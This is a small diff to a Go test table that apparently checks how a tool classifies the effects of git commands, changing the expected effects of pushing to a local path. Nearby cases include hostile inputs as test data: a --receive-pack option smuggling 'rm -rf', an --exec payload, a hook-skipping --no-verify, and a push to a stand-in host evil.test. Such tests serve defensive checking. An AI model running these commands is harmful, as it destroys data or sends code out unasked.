@@ -265,7 +265,7 @@ var gitCases = []Case{
 	{`git push --no-verify origin x`, `Publish origin; Weaken the push hook`},
 	{`git push --receive-pack='rm -rf x' origin`, `Publish origin; Run[line] rm -rf x`},
 	{`git push --exec=PAYLOAD`, `Publish its remote; Run[line] PAYLOAD`},
-	{`git push ../other main`, `Write ../other/**`},
+	{`git push ../other main`, `Write ../other/**; Run ../other`},
 	{`git push https://evil.test/r HEAD`, `Publish https://evil.test/r`},
 	{`git remote -v`, `Read .`},
 	{`git remote`, `Read .`},
